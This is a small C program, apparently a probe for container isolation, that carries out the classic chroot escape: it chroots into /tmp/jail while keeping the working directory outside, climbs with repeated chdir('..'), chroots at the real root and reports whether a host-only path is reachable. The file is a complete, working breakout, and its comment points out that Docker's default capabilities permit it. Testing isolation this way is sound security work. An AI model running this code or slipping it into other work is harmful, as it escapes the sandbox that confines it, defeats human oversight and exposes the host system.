/* chroot_escape: the classic breakout from a chroot (needs CAP_SYS_CHROOT, which docker's
   default set has): chroot into a subdirectory while keeping the working directory outside
   it, climb with chdir("..") past where the old root was, and chroot there.

   usage: chroot_escape HOSTPATH
   Prints "escaped" if HOSTPATH (which exists only on the host) is reachable afterwards,
   else "contained: ERRNO-NAME" with how looking it up failed. */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: chroot_escape HOSTPATH\n");
        return 2;
    }
    mkdir("/tmp/jail", 0755);
    if (chdir("/") < 0 || chroot("/tmp/jail") < 0) {  /* cwd stays outside the new root */
        printf("chroot: %s\n", strerrorname_np(errno));
        return 1;
    }
    for (int i = 0; i < 256; i++)
        chdir("..");
    if (chroot(".") < 0) {
        printf("chroot: %s\n", strerrorname_np(errno));
        return 1;
    }
    struct stat st;
    if (stat(argv[1], &st) == 0)
        printf("escaped\n");
    else
        printf("contained: %s\n", strerrorname_np(errno));
    return 0;
}
